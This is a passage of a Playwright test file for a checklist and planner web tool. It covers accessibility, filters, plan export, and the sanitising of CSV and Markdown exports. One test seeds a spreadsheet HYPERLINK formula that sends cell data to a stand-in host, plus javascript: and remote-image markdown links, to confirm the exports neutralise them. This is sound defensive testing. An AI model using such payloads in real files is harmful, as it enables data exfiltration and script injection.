    if site.builder == "mkdocs":  # Material swaps the page in; the marker on the old element is gone then
        expect(page.locator("[data-before-swap]")).to_have_count(0)
    page.wait_for_load_state("networkidle")
    expect(page.locator(f"#status-{DD[1]}")).to_have_value("na")
    expect(warning).to_be_visible()
    expect(warning).to_contain_text("Not saved yet")
    assert DD[1] not in stored(page, site) or stored(page, site)[DD[1]]["status"] != "na"
    item_field(page, "reason", DD[1]).fill("No catalogue exists in this pilot")
    expect(warning).to_be_hidden()
    assert stored(page, site)[DD[1]]["status"] == "na"


def _conflicting_import(tab) -> None:
    item_field(tab, "owner", DD[0]).fill("Ana")
    import_text(tab, "t.json", json.dumps({"format": "fieldguide-checklist", "version": 3, "items": [
        {"id": DD[0], "status": "done", "owner": "Raj", "changed": {"owner": {"at": "2099-01-01T00:00:00Z"}}}]}))


def test_every_status_and_a_preview_with_conflicts_are_accessible_in_the_dark_scheme(browser, site) -> None:
    context = browser.new_context(viewport={"width": 1280, "height": 900}, color_scheme="dark")
    tab = context.new_page()
    open_checklist(tab, site)
    for item, status in zip(DD[1:], ("in-progress", "accepted-risk"), strict=False):
        item_field(tab, "status", item).select_option(status)  # accepted risk waits for its reason: a warning shows
    tab.locator(f'li[data-item="{DD[2]}"] summary').click()
    expect(tab.locator(f"#evidence-{DD[2]}")).to_be_visible()
    _conflicting_import(tab)
    expect(tab.locator(".fg-conflict")).to_be_visible()
    tab.wait_for_timeout(200)
    assert axe_violations(tab) == []
    context.close()


def test_checklist_page_with_preview_filters_and_alerts_is_accessible(page, site) -> None:
    open_checklist(page, site)
    item_field(page, "status", DD[1]).select_option("na")  # a pending status with its warning
    page.locator("#fg-name").fill("Ana\u202e")  # a refused name with its warning
    _conflicting_import(page)
    expect(page.locator(".fg-conflict")).to_be_visible()
    page.wait_for_timeout(200)
    assert axe_violations(page) == []
    assert page.watch.console_errors == []


# ---------------------------------------------------------------- owners and filters


def test_filter_by_owner_and_status(page, site) -> None:
    open_checklist(page, site)
    item_field(page, "owner", DD[0]).fill("Ana")
    item_field(page, "owner", DD[1]).fill("Raj")
    page.locator(f"#done-{DD[1]}").check()
    page.select_option("#fg-filter-owner", "Ana")
    visible = page.locator(".fg-item:visible")
    expect(visible).to_have_count(1)
    expect(visible.first).to_have_attribute("data-item", DD[0])
    page.select_option("#fg-filter-owner", "")
    page.select_option("#fg-filter-status", "done")
    expect(visible).to_have_count(1)
    expect(page.locator(".fg-filter-count")).to_have_text(re.compile(r"Showing 1 of \d+ items\."))
    expect(page.locator('.fg-challenge[data-challenge="data-profiling"]')).to_be_hidden()
    page.select_option("#fg-filter-status", "unresolved")
    expect(page.locator(f'.fg-item[data-item="{DD[1]}"]')).to_be_hidden()
    expect(page.locator(f'.fg-item[data-item="{DD[0]}"]')).to_be_visible()


def test_unticking_every_stage_says_so_instead_of_showing_everything(page, site) -> None:
    page.goto(site.url + "planner/", wait_until="networkidle")
    for stage in CAT.stages:
        page.locator(f"#fg-stage-{stage.id}").uncheck()
    expect(page.locator(".fg-plan-item")).to_have_count(0)
    expect(page.locator(".fg-message")).to_have_text(
        "No stage is ticked: tick at least one stage in scope to see its challenges.")
    page.reload(wait_until="networkidle")
    expect(page.locator(".fg-plan-item")).to_have_count(0)


def test_plan_markdown_has_one_heading_per_section_not_per_stage_change(page, site) -> None:
    page.goto(site.url + "planner/?plan=1&name=Fraud&industry=finance&trait=regulated"
              + "".join(f"&stage={s.id}" for s in CAT.stages), wait_until="networkidle")
    expect(page.locator(".fg-plan-item").first).to_be_visible()
    text = download(page, "[data-fg-plan-export=md]")
    assert text.startswith("# Deployment plan: Fraud\n")
    assert re.findall(r"^## .*", text, re.MULTILINE) == ["## Challenges, most likely to matter first"]
    assert len(re.findall(r"^### \d+\. ", text, re.MULTILINE)) == len(CAT.challenges)


# ---------------------------------------------------------------- safe exports


HOSTILE_NOTE = '=HYPERLINK("http://x.example/?"&A1,"go")'


def test_exports_neutralise_formulas_and_inert_markdown_and_equal_the_clis(page, site, tmp_path: Path) -> None:
    open_checklist(page, site)
    item_field(page, "owner", DD[0]).fill("@owner")
    page.locator(f'li[data-item="{DD[0]}"] summary').click()
    item_field(page, "note", DD[0]).fill(HOSTILE_NOTE)
    item_field(page, "owner", DD[1]).fill("[x](javascript:alert(1)) ![img](http://x.example/i.png) <b>`code`</b>")
    set_status(page, DD[2], "accepted-risk", "One source")
    set_status(page, DD[3], "na", "No logs")
    page.locator(f"#done-{DD[4]}").check()
    csv_text = download(page, "[data-fg-export=csv]")
    import csv
    import io

    cells = [c for row in csv.reader(io.StringIO(csv_text)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
    assert "'" + HOSTILE_NOTE in cells and "'@owner" in cells
    markdown = download(page, "[data-fg-export=md]")
    assert "](javascript:" not in markdown and "![" not in markdown and "<b>" not in markdown
    assert r"\[x\]\(javascript:alert\(1\)\) \!\[img\]\(http://x.example/i.png\) &lt;b>\`code\`&lt;/b>" in markdown
    assert markdown.count("- [x]") == 1, "only the done item is a ticked box"

    # The CLI writes the same Markdown and CSV from the exported state.
    exported = tmp_path / "state.json"
    exported.write_text(download(page), encoding="utf-8")
    result = run_cli("checklist", "--catalog", REAL, "--stage", "data-management", "--state", exported,
                     "--site-url", site.url)
    assert result.stdout == markdown
    as_csv = run_cli("checklist", "--catalog", REAL, "--stage", "data-management", "--state", exported,
                     "--format", "csv")
    assert as_csv.stdout.replace("\r\n", "\n") == csv_text
